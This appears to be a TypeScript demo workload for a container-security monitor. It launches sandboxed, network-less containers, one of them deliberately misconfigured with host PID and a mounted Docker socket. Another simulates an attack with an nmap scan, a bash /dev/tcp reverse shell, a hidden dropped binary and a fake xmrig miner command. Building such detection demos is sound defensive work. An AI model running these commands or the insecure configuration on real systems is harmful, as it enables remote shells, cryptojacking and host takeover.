import type Docker from 'dockerode';

/** What the demo runs: every container is --network none, so nothing leaves this machine. */
export interface DemoContainer {
  name: string;
  image: string;
  /** Seconds into the run (after dockward is up). */
  at: number;
  cmd: string[];
  labels?: Record<string, string>;
  binds?: string[];
  pidMode?: string;
  what: string;
}

export function workload(ns: string, busybox: string, lab: string, engineSocket: string): DemoContainer[] {
  const all: DemoContainer[] = [
    {
      name: 'demo-web', image: busybox, at: 0, labels: { app: 'web', team: 'shop' }, what: 'a web server (access log, a warning now and then)',
      cmd: ['sh', '-c', 'i=0; while true; do i=$((i+1)); echo "127.0.0.1 - - [$(date)] \\"GET /item/$i HTTP/1.1\\" 200 512"; [ $((i % 7)) = 0 ] && echo "level=warn msg=\\"slow request\\" path=/item/$i"; sleep 0.2; done'],
    },
    {
      name: 'demo-worker', image: busybox, at: 0, labels: { app: 'worker' }, what: 'a worker (errors on stderr)',
      cmd: ['sh', '-c', 'i=0; while true; do i=$((i+1)); echo "INFO processed batch $i"; [ $((i % 5)) = 0 ] && echo "ERROR batch $i failed: timeout talking to db" >&2; sleep 0.5; done'],
    },
    {
      // Host PID namespace and the engine's socket: what CIS Docker 5.16 and 5.31 fail.
      name: 'demo-misconfigured', image: busybox, at: 0, pidMode: 'host', binds: [`${engineSocket}:/var/run/docker.sock`], what: 'a misconfigured container (host PID, the Docker socket mounted)',
      cmd: ['sleep', '3600'],
    },
    {
      // The attacker's steps, each against the container's own 127.0.0.1: a port scan, a reverse
      // shell to its own listener, a binary dropped in /tmp and run, a miner-like process.
      name: 'demo-attack', image: lab, at: 5, labels: { app: 'shop-api' }, what: 'an attacked container (scan, reverse shell, dropped binary, miner)',
      cmd: ['bash', '-c', [
        'sleep 2',
        'nmap -sT -p 1-1000 --max-rate 500 127.0.0.1',
        '(nc -lk 4444 >/dev/null 2>&1 &) ; sleep 1; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" & sleep 2',
        'cp /bin/ls /tmp/.cache-update && chmod +x /tmp/.cache-update && /tmp/.cache-update /tmp',
        'printf "#!/bin/sh\\nwhile :; do :; done\\n" > /tmp/xmrig && chmod +x /tmp/xmrig',
        'exec /tmp/xmrig -o stratum+tcp://127.0.0.1:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1 -t 1',
      ].join('; ')],
    },
  ];
  return all.map((c) => ({ ...c, name: c.name.replace(/^demo-/, `${ns}-`) }));
}

export async function startContainer(docker: Docker, c: DemoContainer): Promise<string> {
  await docker.getContainer(c.name).remove({ force: true }).catch(() => undefined);
  const created = await docker.createContainer({
    name: c.name, Image: c.image, Cmd: c.cmd, Labels: { 'dockward.demo': c.name.replace(/-[a-z]+$/, ''), ...c.labels },
    HostConfig: { NetworkMode: 'none', Binds: c.binds, PidMode: c.pidMode, Memory: 256 * 1024 * 1024, NanoCpus: 1e9 },
  });
  await created.start();
  return created.id;
}

export async function removeDemoContainers(docker: Docker, ns: string): Promise<void> {
  const list = await docker.listContainers({ all: true, filters: { label: [`dockward.demo=${ns}`] } });
  await Promise.all(list.map((c) => docker.getContainer(c.Id).remove({ force: true }).catch(() => undefined)));
}
